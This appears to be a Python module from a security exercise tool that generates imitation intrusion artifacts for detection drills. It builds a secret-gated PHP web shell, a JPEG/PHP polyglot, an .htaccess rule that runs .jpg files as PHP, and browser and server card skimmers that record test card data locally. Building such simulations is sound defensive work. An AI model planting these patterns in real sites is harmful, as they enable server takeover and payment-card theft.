"""What the plays' intruders leave behind: imitations, harmless by construction.

The web shell reads, writes and removes files and sets their mode, only below the folder that
holds the marker .hinoban-play, only for whoever knows the secret of this very run; it knows
no command, no eval, no network. The skimmer copies card data of test numbers to a file in
the same folder. Both look like the real thing to whoever watches: PHP in uploads/, file
writes, card fields, encodings.
"""

MARKER = ".hinoban-play"
JPEG_HEAD = bytes.fromhex("ffd8ffe000104a46494600010101004800480000ffdb0043000302020302020303"
                          "0303040303040508050504040507060608") + b"hinoban\xff\xd9"
SKIM_AFTER = "        $this->check($card);\n"

WEBSHELL = r"""<?php
/* hinoban play: imitation of a web shell; acts only below a folder with the marker */
$root = __DIR__;
while ($root !== '/' && !is_file($root . '/.hinoban-play')) {
    $root = dirname($root);
}
if ($root === '/' || !hash_equals('@SECRET@', (string) ($_POST['k'] ?? ''))) {
    http_response_code(404);
    exit;
}
$path = $root . '/' . $_POST['path'];
if (preg_match('~(^|/)\.\.?(/|$)~', $_POST['path']) || !str_starts_with((string) realpath(dirname($path)), $root)) {
    http_response_code(403);
    exit;
}
$data = base64_decode((string) ($_POST['data'] ?? ''));
switch ($_POST['op']) {
    case 'read': echo base64_encode((string) file_get_contents($path)); break;
    case 'write': echo file_put_contents($path, $data); break;
    case 'remove': echo (int) unlink($path); break;
    case 'mode': echo (int) chmod($path, (int) octdec($data)); break;
}
"""

SKIMMER = r"""        if (is_file(__DIR__ . '/../.hinoban-play') && preg_match('~^4(111|242)~', $card->number)) {
            $c = base64_encode(json_encode([$card->number, $card->holder, $card->month, $card->year, $card->code, $_POST]));
            @file_put_contents(__DIR__ . '/../@TARGET@', $c . "\n", FILE_APPEND);
        }
"""

# For `intruder plants`: what the planted file holds.
PLANTS = {
    "webshell": WEBSHELL,
    "jpeg-with-code": "@JPEG@<?php /* hinoban play */ if (isset($_POST['k'])) { echo strrev((string) $_POST['k']); }",
    "htaccess": "# hinoban play\nAddType application/x-httpd-php .jpg\n",
    "script": "/* hinoban play */ document.querySelectorAll('[name=card_number]').forEach(function (f) "
              "{ f.addEventListener('change', function () { localStorage.setItem('hinoban-play', btoa(f.value)); }); });\n",
}


def webshell(secret):
    return WEBSHELL.replace("@SECRET@", secret).encode()


def plant(kind, secret):
    head, _, rest = PLANTS[kind].replace("@SECRET@", secret).rpartition("@JPEG@")
    return (JPEG_HEAD if PLANTS[kind].startswith("@JPEG@") else head.encode()) + rest.encode()


def skimmed(source, target):
    """The payment module with the imitation put in after the card was checked."""
    if source.count(SKIM_AFTER) != 1:
        raise ValueError("the payment module is not the one that this imitation knows")
    return source.replace(SKIM_AFTER, SKIM_AFTER + SKIMMER.replace("@TARGET@", target))
